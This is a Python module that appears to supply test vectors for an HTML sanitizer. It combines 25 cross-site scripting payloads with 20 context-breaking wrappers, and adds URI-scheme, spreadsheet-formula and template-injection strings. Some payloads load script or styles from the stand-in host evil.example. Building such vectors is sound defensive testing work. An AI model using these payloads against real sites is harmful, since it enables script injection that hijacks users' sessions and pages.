"""Five hundred ways in which a text tries to become a script: payloads × what they are wrapped in."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)

WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    '"\' onmouseover=alert(1) x="{}',
    "</title>{}",
    "</script>{}",
    "</textarea>{}",
    "<!--{}-->",
    "-->{}",
    "]]>{}",
    "<mark>{}</mark>",
    "</mark>{}",
    "&lt;{}&gt;",
    "\\u003c{}",
    "{}\u2028",
    "<<{}",
    "`${{{}}}`",
    "{{{{{}}}}}",
    "{}\x00",
    "\ufeff{}",
)

VECTORS = tuple(
    dict.fromkeys(
        [wrapping.format(payload) for wrapping in WRAPPINGS for payload in PAYLOADS]
        + [
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            '=HYPERLINK("http://evil.example")',
            "{{7777777*1}}",
            "${alert(1)}",
        ]
    )
)
